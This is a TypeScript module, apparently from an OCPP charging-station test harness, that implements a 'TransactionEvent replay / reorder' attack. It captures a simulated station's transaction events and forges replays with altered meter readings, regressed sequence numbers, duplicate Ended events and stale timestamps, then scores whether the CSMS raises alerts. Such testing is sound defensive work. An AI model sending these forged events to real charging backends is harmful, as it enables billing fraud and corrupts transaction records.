import type { Payload } from '../../ocpp/session.js';
import type { StationGroupSpec } from '../../scenario/spec.js';
import type { Station } from '../../station/station.js';
import type { AttackEnv } from '../env.js';
import type { AttackImpl } from '../types.js';

type Mode = 'replay' | 'seqno-regression' | 'ended-twice' | 'started-after-ended' | 'stale-online';

// A well-formed duplicate or out-of-order event gets no CALLERROR in OCPP: the CSMS answers it normally (and
// idempotently, ATTACKS.md A10); what is scored besides is the alert.
const EXPECT = [{ kind: 'callresult', value: 'ok' }] as const;
/** How old the stale-online events claim to be: beyond any clock skew or plausible delivery delay. */
const STALE_MS = 15 * 60_000;

/** The station's real TransactionEvents as the CSMS acknowledged them, per transaction. */
class Capture {
  /** Last delivered event per transactionId, in delivery order (a Map keeps insertion order; re-inserted on update). */
  readonly last = new Map<string, Payload>();
  readonly started = new Map<string, Payload>();
  readonly ended: Payload[] = [];

  take(p: Payload): void {
    const id = (p.transactionInfo as Payload).transactionId as string;
    const copy = structuredClone(p);
    this.last.delete(id);
    this.last.set(id, copy);
    if (p.eventType === 'Started') this.started.set(id, copy);
    if (p.eventType === 'Ended') this.ended.push(copy);
  }

  /** The most recently delivered event of a transaction that is still running, if it has at least `minSeq`. */
  running(minSeq = 0): Payload | undefined {
    let found: Payload | undefined;
    for (const p of this.last.values()) if (p.eventType !== 'Ended' && (p.seqNo as number) >= minSeq) found = p;
    return found;
  }
}

const txIdOf = (p: Payload): string => (p.transactionInfo as Payload).transactionId as string;

/** The copy's energy readings changed (scaled by `k`): the same event with different meter data. */
function alterMeter(p: Payload, k: number): boolean {
  let changed = false;
  for (const mv of (p.meterValue ?? []) as Payload[]) {
    for (const sv of (mv.sampledValue ?? []) as Payload[]) {
      if (typeof sv.value === 'number' && (sv.measurand === undefined || String(sv.measurand).startsWith('Energy'))) {
        sv.value = Math.round(sv.value * k * 1000) / 1000;
        changed = true;
      }
    }
  }
  return changed;
}

/**
 * The forged event of one mode from what was captured, or undefined while the capture lacks what it needs (no
 * running transaction with two events yet, none ended yet). `n` counts this instance's forged events.
 */
function forge(mode: Mode, cap: Capture, st: Station, n: number): Payload | undefined {
  switch (mode) {
    case 'replay': {
      // The last acknowledged event re-sent under a new messageId with different meter data (or an older timestamp).
      const p = cap.running();
      if (!p) return undefined;
      const copy = structuredClone(p);
      delete copy.offline;
      if (!alterMeter(copy, 0.5 + 0.1 * (n % 4))) copy.timestamp = new Date(Date.parse(p.timestamp as string) - 1000 * (n + 1)).toISOString();
      return copy;
    }
    case 'seqno-regression': {
      const p = cap.running(1);
      if (!p) return undefined;
      const copy = structuredClone(p);
      delete copy.offline;
      copy.seqNo = (p.seqNo as number) - 1 - (n % (p.seqNo as number));
      copy.timestamp = st.now();
      return copy;
    }
    case 'ended-twice': {
      const p = cap.ended.at(-1);
      if (!p) return undefined;
      return { ...structuredClone(p), seqNo: (p.seqNo as number) + 1 + n, timestamp: st.now(), offline: false };
    }
    case 'started-after-ended': {
      const end = cap.ended.at(-1);
      if (!end) return undefined;
      const start = cap.started.get(txIdOf(end));
      const p: Payload = {
        eventType: 'Started', timestamp: st.now(), triggerReason: start?.triggerReason ?? 'Authorized', seqNo: (end.seqNo as number) + 1 + n,
        transactionInfo: { transactionId: txIdOf(end), chargingState: 'Charging' },
      };
      if (end.evse !== undefined) p.evse = structuredClone(end.evse);
      if (start?.idToken !== undefined) p.idToken = structuredClone(start.idToken);
      return p;
    }
    case 'stale-online':
      return undefined; // a pair of events: see staleOnline
  }
}

/**
 * A captured Started re-sent as a transaction of its own from long ago, delivered live (`offline` false), then
 * closed the same way: online events whose timestamps are far in the past.
 */
async function staleOnline(env: AttackEnv, cap: Capture, st: Station, n: number): Promise<boolean> {
  const start = [...cap.started.values()].at(-1);
  if (!start) return false;
  const txId = `${txIdOf(start).slice(0, 28)}-r${n}`;
  const at = Date.parse(start.timestamp as string) - STALE_MS;
  const s: Payload = { ...structuredClone(start), timestamp: new Date(at).toISOString(), offline: false, seqNo: 0 };
  s.transactionInfo = { ...(start.transactionInfo as Payload), transactionId: txId };
  await env.call(st, 'TransactionEvent', s, { expect: EXPECT, frame: 'TransactionEvent(stale Started)' });
  const e: Payload = {
    eventType: 'Ended', timestamp: new Date(at + 60_000).toISOString(), triggerReason: 'EVCommunicationLost', seqNo: 1, offline: false,
    transactionInfo: { transactionId: txId, stoppedReason: 'EVDisconnected' },
  };
  if (start.evse !== undefined) e.evse = structuredClone(start.evse);
  await env.call(st, 'TransactionEvent', e, { expect: EXPECT, frame: 'TransactionEvent(stale Ended)' });
  return true;
}

const WITH_SESSIONS = new Set(['charging', 'plug-and-charge', 'v2x']);

/**
 * A10 TransactionEvent replay / reorder: captures the target's real TransactionEvents as the CSMS acknowledges
 * them (station.hooks.txDelivered) and, once what the mode needs was seen, sends forged ones at `rate`/s —
 * replay: the last event again (same transactionId and seqNo, new messageId, different meter data);
 * seqno-regression: an older seqNo; ended-twice: the Ended again; started-after-ended: a Started for the ended
 * transaction; stale-online: events timestamped long ago with offline=false. The instance waits (within its
 * window) for the station's sessions to provide the captures.
 */
export const A10: AttackImpl = {
  type: 'A10',
  title: 'TransactionEvent replay / reorder',
  eligible: (g: StationGroupSpec) => WITH_SESSIONS.has(g.behaviour),
  async run(env: AttackEnv): Promise<void> {
    const st = env.stations[0];
    if (!st) return;
    const mode = env.params.mode as Mode;
    const cap = new Capture();
    const prev = st.hooks;
    st.hooks = { ...prev, txDelivered: (p, r) => { cap.take(p); prev.txDelivered?.(p, r); } };
    try {
      let n = 0;
      await env.every(env.rate, async () => {
        if (!st.online) return;
        if (mode === 'stale-online') { if (await staleOnline(env, cap, st, n)) n++; return; }
        const p = forge(mode, cap, st, n);
        if (!p) return;
        n++;
        await env.call(st, 'TransactionEvent', p, { expect: EXPECT, frame: `TransactionEvent(${mode})` });
      });
      if (n === 0) env.count('a10_nothing_captured');
    } finally {
      st.hooks = prev;
    }
  },
};
